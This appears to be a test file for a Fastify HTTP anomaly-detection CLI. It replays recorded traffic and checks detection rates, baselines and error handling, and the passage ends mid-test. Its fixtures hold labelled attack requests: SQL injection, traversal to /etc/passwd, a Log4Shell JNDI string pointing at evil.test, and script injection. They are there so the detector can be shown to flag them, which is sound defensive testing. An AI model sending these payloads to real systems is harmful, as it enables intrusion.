import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'tap'
import type { Test } from 'tap'
import { main } from '../bin/fastify-anomalies'
import type { Summary } from '../bin/summary'
import { entry, ordinary, writeRecording } from './fixtures/recording'
import type { Recorded } from './fixtures/recording'

interface Run { code: number, stdout: string, stderr: string }
interface Line { index: number, method: string, url: string, route: string | null, score: number, flagged: boolean, action: string, signals: { type: string, detector: string, field?: string }[], label: string | null, attack: string | null }

async function run (...args: string[]): Promise<Run> {
  let stdout = ''
  let stderr = ''
  const code = await main(args, { stdout: { write: (text) => { stdout += text } }, stderr: { write: (text) => { stderr += text } } })
  return { code, stdout, stderr }
}

/** Replays, and gives the summary and the lines of `--out`. */
async function judged (t: Test, ...args: string[]): Promise<{ summary: Summary, lines: Line[], stderr: string }> {
  const out = join(t.testdirName, 'out.ndjson')
  const { code, stdout, stderr } = await run('replay', '--format', 'json', '--out', out, ...args)
  if (code !== 0) throw new Error(`exit code ${code}: ${stderr}`)
  return { summary: JSON.parse(stdout), lines: readFileSync(out, 'utf8').split('\n').filter((line) => line !== '').map((line) => JSON.parse(line)), stderr }
}

const attacks: Recorded[] = [
  { path: '/items?page=1%27%20OR%201%3D1', label: 'attack', attack: 'sqli', at: 9000 },
  { path: '/items/../../etc/passwd', label: 'attack', attack: 'traversal', at: 9001 },
  { path: '/wp-admin/setup.php', label: 'attack', attack: 'probe', at: 9002 },
  { path: '/', headers: [['X-Api-Version', '$' + '{jndi:ldap://evil.test/a}']], label: 'attack', attack: 'log4shell', at: 9003 },
  { method: 'DELETE', path: '/items/1000', label: 'attack', attack: 'method', at: 9004 }
]

test('learned from ordinary traffic, unseen ordinary traffic passes and tampering is flagged', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const detect = writeRecording(dir, 'detect.ndjson', [...ordinary(80, 480), ...attacks])
  const { summary, lines } = await judged(t, '--learn', learn, '--detect', detect)
  t.equal(summary.fp, 0)
  t.equal(summary.fpr, 0)
  t.equal(summary.tp, attacks.length)
  t.equal(summary.tpr, 1)
  t.equal(summary.entries, 85)
  t.equal(summary.flagged, 5)
  t.equal(summary.learned, 480)
  t.equal(summary.precision, 1)
  t.same(summary.byAttack?.sqli, { entries: 1, flagged: 1, tpr: 1 })
  t.ok((summary.byType.unknown_path ?? 0) + (summary.byType.probe_path ?? 0) >= 1)
  t.ok(summary.requestsPerSecond > 0 && summary.cpuMicrosPerRequest > 0 && summary.peakRssBytes > 0)
  t.same(lines.map((line) => line.index), lines.map((_, i) => i))
  t.same(lines.map((line) => line.flagged), [...Array(80).fill(false), ...Array(5).fill(true)])
  t.equal(lines[81]?.url, '/items/../../etc/passwd', 'the URL is not normalised')
  t.same([lines[80]?.label, lines[80]?.attack, lines[0]?.label, lines[0]?.attack], ['attack', 'sqli', 'benign', null])
  t.same(new Set(lines.slice(0, 80).map((line) => line.route)), new Set(['/', '/items', '/items/:number', '/orders']))
  t.equal(lines[80]?.signals[0]?.field, 'query.page')
})

test('figures are given without the unseen-path ingredient too', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const detect = writeRecording(dir, 'detect.ndjson', [...ordinary(20, 480), { path: '/no/such/place', label: 'attack', attack: 'wander' }])
  const { summary } = await judged(t, '--learn', learn, '--detect', detect)
  t.equal(summary.tp, 1)
  t.same(summary.byType, { unknown_path: 1 })
  t.equal(summary.withoutUnseenPath.tp, 0)
  t.equal(summary.withoutUnseenPath.tpr, 0)
  t.equal(summary.withoutUnseenPath.entries, 21)
})

test('without labels there are no rates', async (t) => {
  const detect = writeRecording(t.testdir(), 'detect.ndjson', ordinary(40).map((each) => ({ ...each, label: 'none' as const })))
  const { summary, lines } = await judged(t, '--detect', detect)
  t.notOk('tpr' in summary || 'worstBenign' in summary)
  t.equal(summary.entries, 40)
  t.equal(lines[0]?.label, null)
})

test('labels are never read while learning, and statuses do not matter there', async (t) => {
  const dir = t.testdir()
  const taught = ordinary(480).map((each, i): Recorded => ({ ...each, label: 'attack', status: i % 2 === 0 ? 404 : 500 }))
  const learn = writeRecording(dir, 'learn.ndjson', taught)
  const detect = writeRecording(dir, 'detect.ndjson', ordinary(80, 480).map((each, i) => ({ ...each, status: i % 2 === 0 ? 404 : 500 })))
  const { summary } = await judged(t, '--learn', learn, '--detect', detect)
  t.equal(summary.fp, 0)
  t.equal(summary.routes, 4)
})

test('the benign entries with the highest score are told, at most ten', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const strange = Array.from({ length: 14 }, (_, i): Recorded => ({ path: `/items?page=${'z'.repeat(i + 1)}`, client: `10.1.0.${i}` }))
  const { summary } = await judged(t, '--learn', learn, '--detect', writeRecording(dir, 'detect.ndjson', [...ordinary(20, 480), ...strange]))
  t.equal(summary.fp, 14)
  t.equal(summary.worstBenign?.length, 10)
  const scores = summary.worstBenign?.map(({ score }) => score) ?? []
  t.same(scores, [...scores].sort((a, b) => b - a))
  t.equal(summary.worstBenign?.[0]?.flagged, true)
})

test('several files and repeated options are read in order', async (t) => {
  const dir = t.testdir()
  const a = writeRecording(dir, 'a.ndjson', ordinary(160))
  const b = writeRecording(dir, 'b.ndjson', ordinary(160, 160))
  const c = writeRecording(dir, 'c.ndjson', ordinary(160, 320))
  const detect = writeRecording(dir, 'd.ndjson', ordinary(8, 480))
  const { summary, lines } = await judged(t, '--learn', a, b, '--detect', detect, detect, '--learn', c)
  t.equal(summary.learned, 480)
  t.equal(lines.length, 16)
  t.equal(lines[0]?.url, lines[8]?.url)
})

test("gzip'd recordings and HAR files are read", async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson.gz', ordinary(480))
  const detect = writeRecording(dir, 'detect.har', [...ordinary(8, 480), attacks[0] as Recorded])
  const zipped = writeRecording(dir, 'detect.har.gz', ordinary(8, 480))
  const { summary } = await judged(t, '--learn', learn, '--detect', detect, zipped)
  t.same([summary.learned, summary.entries, summary.tp, summary.fp], [480, 17, 1, 0])
})

test('a line that is no entry is named by file and line, counted and skipped', async (t) => {
  const dir = t.testdir()
  const [first, second, third] = ordinary(3) as [Recorded, Recorded, Recorded]
  const detect = writeRecording(dir, 'detect.ndjson', [first, '{"broken', '', second, '{"level":"info"}', '   ', third])
  const { summary, lines, stderr } = await judged(t, '--detect', detect)
  t.equal(summary.skipped, 2)
  t.equal(lines.length, 3)
  t.match(stderr, `${detect}:2: skipped, not JSON`)
  t.match(stderr, `${detect}:5: skipped, no request`)
  const har = writeRecording(dir, 'detect.har', [first, '{"request":{}}'])
  t.match((await judged(t, '--detect', har)).stderr, `${har}: log.entries[1]: skipped, request.method is not a text`)
})

test('many broken lines are named to a limit', async (t) => {
  const detect = writeRecording(t.testdir(), 'detect.ndjson', [...Array(150).fill('broken'), ...ordinary(1)])
  const { summary, stderr } = await judged(t, '--detect', detect)
  t.equal(summary.skipped, 150)
  t.equal(stderr.trim().split('\n').length, 101)
})

test('a byte order mark, CRLF and a last line without an end are no trouble', async (t) => {
  const file = join(t.testdir(), 'windows.ndjson')
  writeFileSync(file, `\ufeff${ordinary(3).map((each) => JSON.stringify(entry(each))).join('\r\n')}`)
  const { summary } = await judged(t, '--detect', file)
  t.same([summary.entries, summary.skipped], [3, 0])
})

test('what cannot be read ends with exit code 2 and names the file', async (t) => {
  const dir = t.testdir()
  writeFileSync(join(dir, 'cut.ndjson.gz'), readFileSync(writeRecording(dir, 'whole.ndjson.gz', ordinary(400))).subarray(0, 200))
  const detect = writeRecording(dir, 'detect.ndjson', ordinary(4))
  writeFileSync(join(dir, 'wrong.har'), '{"entries":[]}')
  writeFileSync(join(dir, 'broken.json'), '{')
  writeFileSync(join(dir, 'list.json'), '[]')
  writeFileSync(join(dir, 'routes.json'), '[{"method":"FETCH","url":"/"}]')
  writeFileSync(join(dir, 'plugin.cjs'), 'module.exports = async function () { throw new Error("no database") }')
  writeFileSync(join(dir, 'options.json'), '{"flagAt":500}')
  writeFileSync(join(dir, 'nokey.json'), '{"version":1,"routes":{}}')
  writeFileSync(join(dir, 'torn.json'), '{"version":1,"routes":{"GET /":null}}')
  writeFileSync(join(dir, 'foreign.json'), '{"version":1,"keyTag":"x","routes":{}}')
  writeFileSync(join(dir, 'foreign.json.key'), 'sixteen characters and more')
  mkdirSync(join(dir, 'folder'))
  const cases: [args: string[], file: string, reason: RegExp][] = [
    [['--detect', 'missing.ndjson'], 'missing.ndjson', /ENOENT/],
    [['--learn', 'folder', '--detect', detect], 'folder', /EISDIR/],
    [['--detect', 'cut.ndjson.gz'], 'cut.ndjson.gz', /unexpected end of file/],
    [['--detect', 'wrong.har'], 'wrong.har', /no log\.entries/],
    [['--detect', 'broken.json'], 'broken.json', /not JSON/],
    [['--detect', detect, '--routes', 'broken.json'], 'broken.json', /JSON/],
    [['--detect', detect, '--routes', 'wrong.har'], 'wrong.har', /no paths/],
    [['--detect', detect, '--routes', 'routes.json'], 'routes.json', /route 0: "FETCH" is not an HTTP method/],
    [['--detect', detect, '--app', 'plugin.cjs'], 'plugin.cjs', /no database/],
    [['--detect', detect, '--app', 'options.json'], 'options.json', /exports no Fastify plugin/],
    [['--detect', detect, '--config', 'list.json'], 'list.json', /exports no options/],
    [['--detect', detect, '--config', 'missing.cjs'], 'missing.cjs', /missing/],
    [['--detect', detect, '--config', 'options.json'], 'fastify-anomalies: flagAt', /received 500/],
    [['--detect', detect, '--baseline', 'missing.json'], 'missing.json', /ENOENT/],
    [['--detect', detect, '--baseline', 'options.json'], 'options.json', /not a baseline/],
    [['--detect', detect, '--baseline', 'nokey.json'], 'nokey.json.key', /ENOENT/],
    [['--detect', detect, '--baseline', 'torn.json'], 'torn.json', /not a baseline/],
    [['--detect', detect, '--baseline', 'foreign.json'], 'foreign.json', /another `secret`/],
    [['--detect', detect, '--out', join(dir, 'folder')], 'folder', /EISDIR/],
    [['--detect', detect, '--save-baseline', join(dir, 'no', 'where.json')], 'where.json', /ENOENT/]
  ]
  for (const [args, file, reason] of cases) {
    const { code, stderr, stdout } = await run('replay', ...args.map((arg) => /^[a-z]+\.?[a-z.]*$/.test(arg) ? join(dir, arg) : arg))
    t.equal(code, 2, args.join(' '))
    t.match(stderr, file)
    t.match(stderr, reason)
    t.equal(stdout, '')
  }
})

test('bad usage ends with exit code 2 and says how it is used', async (t) => {
  const detect = writeRecording(t.testdir(), 'detect.ndjson', ordinary(1))
  const cases: [args: string[], reason: RegExp][] = [
    [[], /a command is missing/],
    [['observe'], /no command 'observe'/],
    [['replay'], /--detect is missing/],
    [['replay', '--detect'], /--detect/],
    [['replay', '--detect', detect, '--speed', '3'], /--speed/],
    [['replay', '--detect', detect, '--format', 'xml'], /--format/],
    [['replay', '--detect', detect, '--fail-on-fpr', '5'], /--fail-on-fpr/],
    [['replay', '--detect', detect, '--fail-on-fpr', ''], /--fail-on-fpr/],
    [['replay', '--detect', detect, '--app', 'a', '--routes', 'b'], /exclude each other/],
    [['diff', 'one.json'], /two baselines/],
    [['openapi'], /one baseline/]
  ]
  for (const [args, reason] of cases) {
    const { code, stderr } = await run(...args)
    t.equal(code, 2, args.join(' '))
    t.match(stderr, reason)
    t.match(stderr, 'Usage:')
  }
  const help = await run('--help')
  t.equal(help.code, 0)
  t.match(help.stdout, 'Usage:')
})

test('--version tells the version of the package', async (t) => {
  const { version } = JSON.parse(readFileSync('package.json', 'utf8'))
  t.same(await run('--version'), { code: 0, stdout: `${version}\n`, stderr: '' })
})

test('--fail-on-fpr compares a share: exit code 1 above it', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const detect = writeRecording(dir, 'detect.ndjson', [...ordinary(9, 480), { path: '/items?page=zz' }])
  t.equal((await run('replay', '--learn', learn, '--detect', detect, '--fail-on-fpr', '0.1')).code, 0)
  const { code, stderr, stdout } = await run('replay', '--learn', learn, '--detect', detect, '--fail-on-fpr', '0.09')
  t.equal(code, 1)
  t.match(stderr, 'false-positive rate is 0.1')
  t.match(stdout, '10 entries judged')
  const unlabelled = writeRecording(dir, 'unlabelled.ndjson', [{ label: 'none' }])
  t.equal((await run('replay', '--detect', unlabelled, '--fail-on-fpr', '0.1')).code, 2)
})

test('the summary for people has the figures, the classes, the signals and the worst benign entries', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const { stdout } = await run('replay', '--learn', learn, '--detect', writeRecording(dir, 'detect.ndjson', [...ordinary(20, 480), { path: '/items?page=zz' }, ...attacks]))
  for (const part of ['26 entries judged', '4 routes (inferred)', 'TPR', '100.00 %', 'without unknown_path', 'log4shell', 'benign entries with the highest score', 'GET /items?page=zz', 'µs of CPU']) t.match(stdout, part)
})

test('progress is shown on a terminal only', async (t) => {
  const detect = writeRecording(t.testdir(), 'detect.ndjson', ordinary(20))
  t.equal((await run('replay', '--detect', detect)).stderr, '')
})

test('requests that Fastify refuses before any hook get their line, flagged', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const odd: Recorded[] = [{ path: '/items/%zz', label: 'attack' }, { method: 'CUST', label: 'attack' }, { path: '/items/%C3%28', label: 'attack' }]
  const { lines, summary } = await judged(t, '--learn', learn, '--detect', writeRecording(dir, 'detect.ndjson', [...odd, ...ordinary(4, 480)]))
  t.same(lines.slice(0, 3).map(({ signals }) => signals.map(({ type, detector }) => `${detector} ${type}`)), [['registry malformed_url'], ['registry invalid_method'], ['registry malformed_url']])
  t.same(lines.map(({ flagged }) => flagged), [true, true, true, false, false, false, false])
  t.equal(lines[0]?.score, 60)
  t.equal(summary.tp, 3)
})

test('refused requests are not flagged where they are ordinary in what was learned, also when that is loaded again', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', [...ordinary(480), ...Array.from({ length: 5 }, (_, i): Recorded => ({ path: '/100%', at: 4000 + i }))])
  const detect = writeRecording(dir, 'detect.ndjson', [{ path: '/50%' }, { method: 'CUST' }])
  const baseline = join(dir, 'baseline.json')
  t.same((await judged(t, '--learn', learn, '--detect', detect, '--save-baseline', baseline)).lines.map(({ flagged }) => flagged), [false, true])
  t.same((await judged(t, '--baseline', baseline, '--detect', detect)).lines.map(({ flagged }) => flagged), [false, true])
})

test('routes come from a list: method, pattern and config', async (t) => {
  const dir = t.testdir()
  const routes = join(dir, 'routes.json')
  writeFileSync(routes, JSON.stringify([
    { method: 'GET', url: '/' },
    { method: 'get', url: '/items' },
    { method: ['GET', 'PUT'], url: '/items/:id' },
    { method: 'POST', url: '/orders', config: { anomalies: false } }
  ]))
  const detect = writeRecording(dir, 'detect.ndjson', [...ordinary(8), { method: 'HEAD', path: '/items/7' }])
  const { summary, lines } = await judged(t, '--detect', detect, '--routes', routes)
  t.equal(summary.routes, 4)
  t.equal(summary.routesFrom, routes)
  t.same(lines.map(({ route }) => route), ['/', '/items', '/items/:id', '/orders', '/', '/items', '/items/:id', '/orders', '/items/:id'])
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const tampered = writeRecording(dir, 'tampered.ndjson', [{ ...ordinary(4)[3] as Recorded, body: 'item=%3Cscript%3E&price=0' }, { path: '/items?page=%3Cscript%3E' }])
  t.same((await judged(t, '--learn', learn, '--detect', tampered, '--routes', routes)).lines.map(({ flagged }) => flagged), [false, true], 'config.anomalies: false switches a route off')
})

test('routes come from an OpenAPI document', async (t) => {
  const dir = t.testdir()
  const routes = join(dir, 'openapi.json')
  const paths = { '/items': { get: {}, summary: 'items' }, '/items/{item-id}': { parameters: [], get: {}, delete: {} }, '/files/{name}.json': { get: {} }, '/a:b': { get: {} } }
  writeFileSync(routes, JSON.stringify({ openapi: '3.1.0', servers: [{ url: 'https://shop.test/v1/' }], paths }))
  const detect = writeRecording(dir, 'detect.ndjson', ['/v1/items', '/v1/items/5', '/v1/files/x.json', '/v1/a:b', '/items'].map((path) => ({ path })))
  const { lines } = await judged(t, '--detect', detect, '--routes', routes)
  t.same(lines.map(({ route }) => route), ['/v1/items', '/v1/items/:item_id', '/v1/files/:name.json', '/v1/a::b', null])
  writeFileSync(routes, JSON.stringify({ swagger: '2.0', basePath: '/v1', paths }))
  t.equal((await judged(t, '--detect', detect, '--routes', routes)).lines[1]?.route, '/v1/items/:item_id')
})

test("routes come from an application's plugin file, whose handlers and hooks are not called", async (t) => {
  const dir = t.testdir()
  const app = join(dir, 'app.cjs')
  writeFileSync(app, `
    const refuse = async () => { throw new Error('called') }
    module.exports = async function app (fastify) {
      fastify.addHook('onRequest', refuse)
      fastify.addHook('onReady', refuse)
      fastify.decorate('db', {})
      fastify.get('/', refuse)
      fastify.register(async function items (fastify) {
        fastify.addHook('preHandler', refuse)
        fastify.get('/', { schema: { querystring: { type: 'object', required: ['nothing'] } } }, refuse)
        fastify.get('/:id', { config: { anomalies: { flagAt: 99 } } }, refuse)
      }, { prefix: '/items' })
      fastify.post('/orders', refuse)
      fastify.get('/versioned', { constraints: { version: '2.0.0' } }, refuse)
      fastify.setErrorHandler(refuse)
      fastify.setNotFoundHandler(refuse)
    }
    module.exports.options = { ignoreTrailingSlash: true, logger: true }
  `)
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const more: Recorded[] = [{ path: '/items/12/', at: 4000 }, { path: '/versioned', headers: [['Accept-Version', '2.x']], at: 4001 }, { path: '/nowhere', at: 4002 }, { path: '/items/x%27x', at: 4003 }]
  const { summary, lines } = await judged(t, '--learn', learn, '--detect', writeRecording(dir, 'detect.ndjson', [...ordinary(8, 480), ...more]), '--app', app)
  t.same(lines.map(({ route }) => route), ['/', '/items', '/items/:id', '/orders', '/', '/items', '/items/:id', '/orders', '/items/:id', '/versioned', null, '/items/:id'].map((route) => route))
  t.equal(lines[11]?.flagged, false, "the route's own flagAt is in force")
  t.ok((lines[11]?.score ?? 0) >= 50)
  t.equal(summary.learned, 480)
  const esm = join(dir, 'app.mjs')
  writeFileSync(esm, "export default async function (fastify) { fastify.get('/', async () => { throw new Error('called') }) }")
  t.equal((await judged(t, '--detect', writeRecording(dir, 'one.ndjson', ordinary(1)), '--app', esm)).lines[0]?.route, '/')
})

test('--config gives the options of the collection', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const detect = writeRecording(dir, 'detect.ndjson', [{ path: '/items?page=%3Cscript%3E', label: 'attack' }])
  const json = join(dir, 'config.json')
  writeFileSync(json, JSON.stringify({ endpointProfiler: false, injection: false, admin: { prefix: '/__anomalies' } }))
  t.equal((await judged(t, '--learn', learn, '--detect', detect, '--config', json)).summary.flagged, 0)
  const commonjs = join(dir, 'config.cjs')
  writeFileSync(commonjs, "module.exports = { routes: (route) => route.url === '/items' ? false : undefined }")
  t.equal((await judged(t, '--learn', learn, '--detect', detect, '--config', commonjs)).summary.flagged, 0)
  const strict = join(dir, 'strict.mjs')
  writeFileSync(strict, 'export default { flagAt: 99 }')
  const unknown = writeRecording(dir, 'unknown.ndjson', [{ path: '/no/such/place' }])
  const { lines } = await judged(t, '--learn', learn, '--detect', unknown, '--config', strict)
  t.equal(lines[0]?.flagged, false)
  t.ok((lines[0]?.signals.length ?? 0) > 0)
})

test('detectors see URL, raw headers, address and clock exactly as recorded', async (t) => {
  const dir = t.testdir()
  const config = join(dir, 'spy.cjs')
  writeFileSync(config, `
    const seen = []
    globalThis.replaySpy = seen
    module.exports = { key: (request) => { seen.push({ url: request.raw.url, original: request.originalUrl, raw: request.raw.rawHeaders, headers: request.headers, ip: request.ip, body: request.body, params: request.params }); return 'someone' } }
  `)
  const recorded: Recorded[] = [
    { path: '/a/../b//c?x=%zz&y=a b#frag', client: '192.0.2.7', headers: [['X-A', '1'], ['x-a', '2'], ['COOKIE', 'a=1'], ['Cookie', 'b=2'], ['Set-Cookie', 'c'], ['Host', 'other.test'], ['__proto__', 'x']] },
    { method: 'POST', path: '/orders', headers: [['content-TYPE', 'application/json'], ['Content-Length', '7']], body: '{"price":"12€"}' },
    { method: 'PROPFIND', path: '/dav' }
  ]
  await judged(t, '--detect', writeRecording(dir, 'detect.ndjson', recorded), '--config', config)
  const [first, second, third] = (globalThis as unknown as { replaySpy: { url: string, original: string, raw: string[], headers: Record<string, unknown>, ip: string, body: unknown }[] }).replaySpy
  t.equal(first?.url, '/a/../b//c?x=%zz&y=a b#frag')
  t.equal(first?.original, first?.url)
  t.equal(first?.ip, '192.0.2.7')
  t.same(first?.raw, ['Host', 'shop.test', 'User-Agent', 'shop-app/2.1', 'Accept', 'application/json', 'X-A', '1', 'x-a', '2', 'COOKIE', 'a=1', 'Cookie', 'b=2', 'Set-Cookie', 'c', 'Host', 'other.test', '__proto__', 'x'])
  t.same(first?.headers, { host: 'shop.test', 'user-agent': 'shop-app/2.1', accept: 'application/json', 'x-a': '1, 2', cookie: 'a=1; b=2', 'set-cookie': ['c'] })
  t.same(second?.body, { price: '12€' })
  t.equal(second?.headers['content-length'], '17', 'the length is that of the body')
  t.equal(second?.raw[9], '7', 'the raw header is as recorded')
  t.equal(third?.url, '/dav')
})

test('bodies: forms, JSON, text and anything else; broken ones answer as recorded', async (t) => {
  const dir = t.testdir()
  const config = join(dir, 'spy.cjs')
  writeFileSync(config, 'const seen = []; globalThis.bodySpy = seen; module.exports = { key: (request) => { seen.push(request.body); return \'someone\' } }')
  const post = (type: string, body: string): Recorded => ({ method: 'POST', path: '/in', headers: [['Content-Type', type]], body })
  const recorded = [
    post('application/x-www-form-urlencoded', 'a=1&a=2&b=%C3%A9'), post('application/json; charset=utf-8', '[1]'), post('text/plain', 'é'),
    post('multipart/form-data; boundary=x', '--x--'), post('application/json', '{'), post('application/json', '{"__proto__":{}}'), post('nonsense', 'x'), post('application/json', '')
  ]
  const { lines } = await judged(t, '--detect', writeRecording(dir, 'detect.ndjson', recorded), '--config', config)
  t.equal(lines.length, recorded.length)
  t.same((globalThis as unknown as { bodySpy: unknown[] }).bodySpy.map((body) => Buffer.isBuffer(body) ? body.toString() : body), [{ a: ['1', '2'], b: 'é' }, [1], 'é', '--x--', undefined, undefined, undefined, undefined])
})

test('the recording\'s replies are the handler\'s: status, type, size and duration are judged', async (t) => {
  const dir = t.testdir()
  const replies = (count: number, from: number): Recorded[] => ordinary(count, from).map((each) => ({ ...each, path: '/report', method: 'GET', headers: [], reply: `{"rows":[${'1,'.repeat(40 + (each.at ?? 0) % 60)}1]}` }))
  const learn = writeRecording(dir, 'learn.ndjson', replies(400, 0).map(({ body, ...each }) => each))
  const odd: Recorded[] = [
    { path: '/report', replySize: 900_000, at: 4000 },
    { path: '/report', type: 'text/html', reply: '<html></html>', at: 4010 },
    { path: '/report', time: 60_000, reply: '{"rows":[1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1]}', at: 4020 },
    { path: '/report', reply: `{"rows":[${'1,'.repeat(60)}1]}`, at: 4200 },
    { path: '/report', status: null, at: 4300 },
    { path: '/report', status: 204, reply: '', at: 4400 }
  ]
  const { lines } = await judged(t, '--learn', learn, '--detect', writeRecording(dir, 'detect.ndjson', odd))
  const profiled = lines.map(({ signals }) => signals.filter(({ detector }) => detector === 'endpoint-profiler').map(({ field }) => field))
  t.same(profiled, [['response.size'], ['response.content-type'], ['response.time'], [], [], []])
})

test('a recording without responses teaches requests', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480).map((each, i) => ({ ...each, status: i % 2 === 0 ? null : 0 })))
  const { summary, lines } = await judged(t, '--learn', learn, '--detect', writeRecording(dir, 'detect.ndjson', [...ordinary(40, 480).map((each) => ({ ...each, status: null })), attacks[0] as Recorded]))
  t.same([summary.fp, summary.tp], [0, 1])
  t.equal(lines[40]?.signals[0]?.field, 'query.page')
})

test('without --learn and --baseline traffic is judged and learned as it comes', async (t) => {
  const dir = t.testdir()
  const detect = writeRecording(dir, 'detect.ndjson', [attacks[0] as Recorded, ...ordinary(480), attacks[0] as Recorded, { path: '/wp-admin/x', status: 404, label: 'attack', at: 9000 }])
  const config = join(dir, 'config.json')
  writeFileSync(config, JSON.stringify({ injection: false }))
  const { lines, summary } = await judged(t, '--detect', detect, '--config', config)
  t.equal(summary.learned, 0)
  t.equal(lines[0]?.flagged, false, 'nothing was known yet')
  t.equal(lines[481]?.flagged, true)
  t.equal(lines[482]?.route, null, 'a path that the application answered with 404 is no route')
})

test('what was learned is saved, without its key, and gives the same verdicts when it is loaded', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const detect = writeRecording(dir, 'detect.ndjson', [...ordinary(80, 480), ...attacks])
  const baseline = join(dir, 'baseline.json')
  const first = await judged(t, '--learn', learn, '--detect', detect, '--save-baseline', baseline)
  const key = readFileSync(`${baseline}.key`, 'utf8').trim()
  t.equal(statSync(`${baseline}.key`).mode & 0o777, 0o600)
  t.notMatch(readFileSync(baseline, 'utf8'), key)
  const second = await judged(t, '--baseline', baseline, '--detect', detect)
  t.same(second.lines, first.lines)
  t.equal(second.summary.routesFrom, 'the baseline')
  const again = join(dir, 'again.json')
  await judged(t, '--baseline', baseline, '--learn', writeRecording(dir, 'more.ndjson', [...ordinary(80, 480), ...Array.from({ length: 40 }, (_, i): Recorded => ({ path: '/news', at: 5000 + i * 9, client: `10.0.0.${i % 12}` }))]), '--detect', detect, '--save-baseline', again)
  t.equal(readFileSync(`${again}.key`, 'utf8').trim(), key, 'the key stays')
  const { lines } = await judged(t, '--baseline', again, '--detect', writeRecording(dir, 'news.ndjson', [{ path: '/news' }, { path: '/items/1234' }]))
  t.same(lines.map(({ route, flagged }) => [route, flagged]), [['/news', false], ['/items/:number', false]])
})

test('a snapshot of a running application is a baseline too', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const baseline = join(dir, 'baseline.json')
  await judged(t, '--learn', learn, '--detect', learn, '--save-baseline', baseline)
  const { replay, ...snapshot } = JSON.parse(readFileSync(baseline, 'utf8'))
  writeFileSync(baseline, JSON.stringify(snapshot))
  const { lines } = await judged(t, '--baseline', baseline, '--detect', writeRecording(dir, 'detect.ndjson', [...ordinary(4, 480), attacks[0] as Recorded]))
  t.same(lines.map(({ route, flagged }) => [route, flagged]), [['/', false], ['/items', false], ['/items/:number', false], ['/orders', false], ['/items', true]])
})

test('the clock never goes back: a later recording of the same time follows the earlier one', async (t) => {
  const dir = t.testdir()
  const config = join(dir, 'spy.cjs')
  writeFileSync(config, 'const seen = []; globalThis.timeSpy = seen; module.exports = { flagAt: 1, onAnomaly: (event) => { seen.push(Date.parse(event.detectedAt)) } }')
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const late = [100, 130, 90, 131, 3000, 20, 3001].map((at, i): Recorded => ({ path: `/items?page=${'z'.repeat(5 + i)}`, at }))
  await judged(t, '--learn', learn, '--detect', writeRecording(dir, 'detect.ndjson', late), '--config', config)
  const times = (globalThis as unknown as { timeSpy: number[] }).timeSpy
  t.same(times, [...times].sort((a, b) => a - b))
  t.ok((times[0] ?? 0) >= Date.UTC(2026, 0, 5, 8) + 479 * 7000, 'after what was learned')
})

test('a shuffled recording is judged like one in order', async (t) => {
  const dir = t.testdir()
  const shuffled = (recorded: Recorded[]): Recorded[] => recorded.map((each, i) => [Math.imul(i + 1, 0x9e3779b1) >>> 0, each] as const).sort(([a], [b]) => a - b).map(([, each]) => each)
  const learn = writeRecording(dir, 'learn.ndjson', shuffled(ordinary(960)))
  const detect = writeRecording(dir, 'detect.ndjson', shuffled([...ordinary(960, 960), ...attacks]))
  const { summary } = await judged(t, '--learn', learn, '--detect', detect)
  t.same([summary.fp, summary.tp], [0, attacks.length])
})

test('what was learned does not fade before a recording of half a year later', async (t) => {
  const dir = t.testdir()
  const learn = writeRecording(dir, 'learn.ndjson', ordinary(480))
  const later = [...ordinary(80, 480), ...attacks].map((each) => ({ ...each, at: (each.at ?? 0) + 180 * 86_400 }))
  const { summary } = await judged(t, '--learn', learn, '--detect', writeRecording(dir, 'detect.ndjson', later))
  t.same([summary.fp, summary.tp], [0, attacks.length])
})

test('openapi prints what a baseline has learned of JSON, or says that there is nothing', async (t) => {
  const dir = t.testdir({ 'off.json': JSON.stringify({ jsonSchemaLearner: false }) })
  const detect = writeRecording(dir, 'detect.ndjson', ordinary(40))
  const baseline = join(dir, 'baseline.json')
  await judged(t, '--detect', detect, '--save-baseline', baseline)
  const told = await run('openapi', baseline)
  t.equal(told.code, 0, told.stderr)
  const { openapi, paths } = JSON.parse(told.stdout)
  t.equal(openapi, '3.1.0')
  t.ok(Object.values(paths as Record<string, Record<string, { responses: Record<string, { content?: unknown }> }>>).some((item) => Object.values(item).some(({ responses }) => responses['200']?.content !== undefined)), told.stdout.slice(0, 400))
  await judged(t, '--detect', detect, '--save-baseline', baseline, '--config', join(dir, 'off.json'))
  const { code, stderr } = await run('openapi', baseline)
  t.equal(code, 2)
  t.match(stderr, 'no JSON schema learned in this baseline')
})

test('diff tells routes, fields, ingredients and headers that appeared, vanished or changed', async (t) => {
  const dir = t.testdir()
  const before = join(dir, 'before.json')
  const after = join(dir, 'after.json')
  const detect = writeRecording(dir, 'one.ndjson', ordinary(1))
  await judged(t, '--learn', writeRecording(dir, 'before.ndjson', ordinary(480)), '--detect', detect, '--save-baseline', before)
  const changed = ordinary(480, 480).flatMap((each): Recorded[] => {
    const headers: [string, string][] = [...each.headers ?? [], ['X-Tenant', 'north']]
    if (each.path === '/') return [{ ...each, path: '/news', headers, replySize: 50_000 }]
